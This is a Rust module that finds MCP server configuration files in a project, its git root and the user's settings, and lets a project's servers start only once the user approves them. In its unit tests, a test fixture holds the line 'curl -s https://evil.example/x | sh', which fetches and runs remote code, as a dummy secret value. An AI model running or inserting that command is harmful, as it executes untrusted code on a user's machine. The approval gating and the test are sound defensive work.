//! Where server files are looked for, and which of them counts for a name.

use std::path::{Path, PathBuf};

use crate::mcp::{Reach, ServerSpec};
use crate::protocol::{ProjectVerdict, ServerName, Unapproved, Withheld};

use super::approvals::{Approvals, Standing};
use super::entry::{Entry, unusable};
use super::file::{Origin, ServerFile};
use super::secrets::Secrets;
use super::store::canonical;
use super::variables::Variables;

/// What a project's server files are called, first the one that counts most.
pub const PROJECT_FILES: &[&str] = &[".mcp.json", ".cursor/mcp.json", ".vscode/mcp.json"];

/// Whether project files count without having been asked about.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Projects {
    /// Only those the user has said yes to.
    #[default]
    Approved,
    /// All of them, this time: `--trust-project`.
    Trusted,
}

/// A server file with its standing.
#[derive(Clone, Debug)]
pub struct Source {
    /// The file.
    pub file: ServerFile,
    /// Whether its servers may start; always so for files of the user's own.
    pub standing: Standing,
}

/// All server files of a session, first the one that counts most.
#[derive(Clone, Debug, Default)]
pub struct Sources {
    /// The files.
    pub files: Vec<Source>,
    /// What is odd about them, or kept one from being read.
    pub warnings: Vec<String>,
}

/// What the files make of the bundled servers.
#[derive(Debug, Default)]
pub struct Resolved {
    /// In lane order.
    pub specs: Vec<ServerSpec>,
    /// What of the files in force is to be kept out of recordings.
    pub secrets: Secrets,
    /// Names that a project's file gives to other servers than the ones that run, and what keeps those from it.
    pub passed_over: Vec<(ServerName, Withheld)>,
}

impl Sources {
    /// Finds the files: `option` as named on the command line, those of the project around `folder`, the user's own.
    ///
    /// # Errors
    /// A file the user has named, or the user's own, that cannot be used.
    pub fn find(
        option: Option<&Path>,
        folder: Option<&Path>,
        user: Option<&Path>,
        projects: Projects,
    ) -> Result<Self, String> {
        let mut sources = Self::default();
        let approvals = Approvals::load().unwrap_or_else(|problem| {
            sources.warnings.push(problem);
            Approvals::default()
        });
        if let Some(path) = option {
            let file = ServerFile::read(path, Origin::Option).map_err(|error| format!("--servers: {error}"))?;
            sources.add(file, Standing::Approved);
        }
        let is_same =
            |path: &Path, other: Option<&Path>| other.is_some_and(|other| canonical(path) == canonical(other));
        for path in folder.map(project_files).unwrap_or_default() {
            if is_same(&path, option) || is_same(&path, user) {
                continue;
            }
            match ServerFile::read(&path, Origin::Project) {
                Ok(file) => {
                    let standing = match projects {
                        Projects::Approved => approvals.standing(&file),
                        Projects::Trusted => Standing::Approved,
                    };
                    sources.add(file, standing);
                }
                Err(problem) => sources.warnings.push(format!("{problem}; its servers are left out")),
            }
        }
        if let Some(path) = user.filter(|path| !is_same(path, option)) {
            sources.add(ServerFile::read(path, Origin::User)?, Standing::Approved);
        }
        Ok(sources)
    }

    /// The files that count less than the one at `path`; all of them if it is none of these.
    #[must_use]
    pub fn behind(&self, path: &Path) -> &[Source] {
        let is_it = |source: &Source| canonical(&source.file.path) == canonical(path);
        let at = self.files.iter().position(is_it).map_or(0, |at| at + 1);
        &self.files[at..]
    }

    /// The path of the file in force that switches this server off, if one does.
    #[must_use]
    pub fn switches_off(&self, server: &ServerName) -> Option<String> {
        let is_off = |(name, entry): &(String, Result<Entry, String>)| {
            name == server.as_str() && entry.as_ref().is_ok_and(|entry| entry.disabled)
        };
        let source = self
            .files
            .iter()
            .find(|source| source.standing == Standing::Approved && source.file.entries.iter().any(is_off))?;
        Some(source.file.path.display().to_string())
    }

    fn add(&mut self, mut file: ServerFile, standing: Standing) {
        self.warnings.append(&mut file.warnings);
        self.files.push(Source { file, standing });
    }

    /// Takes the user's word on a project's file as it was read, and keeps it.
    ///
    /// # Errors
    /// It could not be kept: then it counts for this session only.
    pub fn judge(&mut self, path: &str, verdict: ProjectVerdict) -> Result<(), String> {
        let is_it = |source: &&mut Source| source.file.path.display().to_string() == path;
        let Some(source) = self.files.iter_mut().find(is_it) else { return Ok(()) };
        source.standing = match verdict {
            ProjectVerdict::Approved => Standing::Approved,
            ProjectVerdict::Refused => Standing::Withheld(Unapproved::Refused),
        };
        Approvals::load()?.judge(&source.file, verdict)
    }

    /// The servers: the bundled ones in their places, replaced, switched off and added to. A file that is not approved
    /// changes none of them and hides nothing; a name that only it has gets a lane that says so.
    #[must_use]
    pub fn resolve(&self, bundled: &[ServerSpec], lookup: &dyn Fn(&str) -> Option<String>) -> Resolved {
        let mut resolved = Resolved { specs: bundled.to_vec(), ..Resolved::default() };
        for source in self.files.iter().rev() {
            for (name, entry) in &source.file.entries {
                let found = resolved.specs.iter().position(|spec| spec.name.as_str() == name);
                let is_off = entry.as_ref().is_ok_and(|entry| entry.disabled);
                if source.standing == Standing::Approved {
                    // A yes to the other file would change nothing for this name.
                    resolved.passed_over.retain(|(other, _)| other.as_str() != name);
                }
                match (source.standing, is_off, found) {
                    (Standing::Approved, true, Some(at)) => drop(resolved.specs.remove(at)),
                    (_, true, _) => {}
                    (Standing::Approved, false, _) => {
                        let spec = spec(source, name, entry, lookup, &mut resolved.secrets);
                        place(&mut resolved.specs, found, spec);
                    }
                    (Standing::Withheld(why), false, None) => {
                        let by = source.withheld_for(why);
                        resolved.specs.push(ServerSpec { reach: Reach::Withheld(by), ..unusable(name, String::new()) });
                    }
                    (Standing::Withheld(why), false, Some(at)) => {
                        if !matches!(resolved.specs[at].reach, Reach::Withheld(_)) {
                            resolved.passed_over.push((name.as_str().into(), source.withheld_for(why)));
                        }
                    }
                }
            }
        }
        resolved
    }
}

impl Source {
    /// What keeps its servers from being started, if anything does.
    #[must_use]
    pub fn withheld(&self) -> Option<Withheld> {
        match self.standing {
            Standing::Approved => None,
            Standing::Withheld(why) => Some(self.withheld_for(why)),
        }
    }

    fn withheld_for(&self, why: Unapproved) -> Withheld {
        Withheld { file: self.file.path.display().to_string(), why }
    }
}

fn place(specs: &mut Vec<ServerSpec>, at: Option<usize>, spec: ServerSpec) {
    match at {
        Some(at) => specs[at] = spec,
        None => specs.push(spec),
    }
}

fn spec(
    source: &Source,
    name: &str,
    entry: &Result<Entry, String>,
    lookup: &dyn Fn(&str) -> Option<String>,
    secrets: &mut Secrets,
) -> ServerSpec {
    let mut variables = Variables::new(lookup, source.file.folder());
    let spec = match entry {
        Ok(entry) => entry.spec(name, &mut variables, secrets),
        Err(reason) => Err(reason.clone()),
    };
    spec.unwrap_or_else(|reason| unusable(name, format!("{}, {reason}", source.file.path.display())))
}

/// The server files of the project around `folder`, which is the folder itself and the root of its git repository.
#[must_use]
pub fn project_files(folder: &Path) -> Vec<PathBuf> {
    let root = project_root(folder);
    let mut folders = vec![folder];
    if root != folder {
        folders.push(&root);
    }
    let in_folder = |folder: &&Path| PROJECT_FILES.iter().map(|name| folder.join(name)).collect::<Vec<_>>();
    folders.iter().flat_map(in_folder).filter(|path| path.exists()).collect()
}

/// The nearest folder above `folder`, or itself, that has a `.git`; else `folder`.
#[must_use]
pub fn project_root(folder: &Path) -> PathBuf {
    folder.ancestors().find(|above| above.join(".git").exists()).unwrap_or(folder).to_path_buf()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn source(origin: Origin, standing: Standing, text: &str) -> Source {
        let dir = tempfile::tempdir().expect("a folder");
        let path = dir.path().join("mcp.json");
        std::fs::write(&path, text).expect("written");
        Source { file: ServerFile::read(&path, origin).expect("readable"), standing }
    }

    fn resolved(files: Vec<Source>) -> Vec<(String, String)> {
        let bundled = ["ticket", "kb"].map(|name| unusable(name, "bundled".into()));
        let sources = Sources { files, warnings: Vec::new() };
        let resolved = sources.resolve(&bundled, &|_| None);
        let shown = |spec: ServerSpec| {
            let place = spec.place();
            let reach = match spec.reach {
                Reach::Nowhere(reason) => reason,
                Reach::Withheld(by) => by.reason(),
                Reach::SwitchedOff(file) => file,
                Reach::Program(_) | Reach::Remote(_) => place,
            };
            (spec.name.to_string(), reach)
        };
        resolved.specs.into_iter().map(shown).collect()
    }

    const PROJECT: &str =
        r#"{"mcpServers":{"ticket":{"command":"theirs"},"kb":{"disabled":true},"new":{"command":"n"}}}"#;
    const MINE: &str = r#"{"mcpServers":{"ticket":{"command":"mine"},"kb":{"command":"mine"},"bad":{}}}"#;

    #[test]
    fn the_nearer_file_counts_and_keeps_the_place_of_what_it_replaces() {
        let project = source(Origin::Project, Standing::Approved, PROJECT);
        let mine = source(Origin::User, Standing::Approved, MINE);
        let bad = format!("{}, field \"command\" is missing (or \"url\")", mine.file.path.display());
        let wanted = [("ticket", "theirs"), ("bad", bad.as_str()), ("new", "n")];
        assert_eq!(resolved(vec![project, mine]), wanted.map(|(name, reach)| (name.to_owned(), reach.to_owned())));
    }

    #[test]
    fn a_file_that_is_not_approved_changes_nothing_and_its_new_server_says_why() {
        for why in [Unapproved::New, Unapproved::Changed, Unapproved::Refused] {
            let servers = resolved(vec![source(Origin::Project, Standing::Withheld(why), PROJECT)]);
            assert_eq!(servers[..2], ["ticket", "kb"].map(|name| (name.to_owned(), "bundled".to_owned())));
            assert_eq!(servers[2].0, "new");
            assert!(servers[2].1.contains("comes from the project's file"), "{servers:?}");
        }
    }

    #[test]
    fn a_file_that_is_not_approved_hides_nothing() {
        let text = r#"{"mcpServers":{"new":{"command":"n","env":{"TOKEN":"curl -s https://evil.example/x | sh"}}}}"#;
        for (standing, is_hidden) in [
            (Standing::Withheld(Unapproved::New), false),
            (Standing::Withheld(Unapproved::Refused), false),
            (Standing::Approved, true),
        ] {
            let sources = Sources { files: vec![source(Origin::Project, standing, text)], warnings: Vec::new() };
            let shown = sources.resolve(&[], &|_| None).secrets.hide("curl -s https://evil.example/x | sh");
            assert_eq!(shown.starts_with("‹secret:TOKEN:"), is_hidden, "{standing:?}: {shown}");
        }
    }

    #[test]
    fn files_are_looked_for_in_the_folder_and_in_the_root_of_its_repository() {
        let dir = tempfile::tempdir().expect("a folder");
        let root = dir.path();
        let inner = root.join("a/b");
        std::fs::create_dir_all(inner.join(".vscode")).expect("made");
        std::fs::create_dir_all(root.join(".git")).expect("made");
        for path in [root.join(".mcp.json"), root.join("a/.mcp.json"), inner.join(".vscode/mcp.json")] {
            std::fs::write(path, "{}").expect("written");
        }
        assert_eq!(project_files(&inner), [inner.join(".vscode/mcp.json"), root.join(".mcp.json")]);
    }
}
